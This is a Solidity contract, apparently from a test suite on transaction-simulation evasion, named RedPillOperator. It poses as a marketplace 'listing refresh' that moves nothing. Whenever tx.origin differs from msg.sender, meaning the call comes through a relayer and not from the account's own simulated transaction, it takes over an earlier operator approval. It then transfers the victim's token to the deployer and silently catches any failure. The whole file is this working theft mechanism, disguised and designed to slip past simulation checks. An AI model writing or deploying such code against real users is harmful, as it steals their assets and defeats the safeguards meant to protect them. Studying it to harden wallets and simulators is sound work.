// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {RedPillCollection} from "./RedPillCollection.sol";

/// @title RedPillOperator
/// @notice Red pill for an operator approval, keyed on the transaction's origin. Looks like a
///         marketplace's listing refresh: `refresh` records the caller's visit and moves
///         nothing. The victim made this contract an operator over its `RedPillCollection` ids
///         (`setApprovalForAll`) in an earlier transaction of its own. Detects: a simulation
///         that sends the call as the account's own transaction has `tx.origin == msg.sender`;
///         through a relayer it differs. Steals, then: the victim's id `prize` through the
///         operator right, from a collection the simulated execution never touches.
contract RedPillOperator {
    RedPillCollection private immutable _collection;
    uint256 private immutable _prize;
    address private immutable _boss;

    /// @notice Refreshes, all callers together.
    uint256 public visits;

    /// @notice `visitor` refreshed its listings.
    event Refreshed(address indexed visitor, uint256 visits);

    /// @param collection The collection the victim made this contract an operator of.
    /// @param prize The victim's id to take.
    constructor(RedPillCollection collection, uint256 prize) {
        (_collection, _prize, _boss) = (collection, prize, msg.sender);
    }

    /// @notice Records a listing refresh of the caller.
    function refresh() external {
        emit Refreshed(msg.sender, ++visits);
        if (tx.origin != msg.sender) {
            // A theft that fails must not revert the victim's call.
            try _collection.transferFrom(msg.sender, _boss, _prize) {} catch {}
        }
    }
}
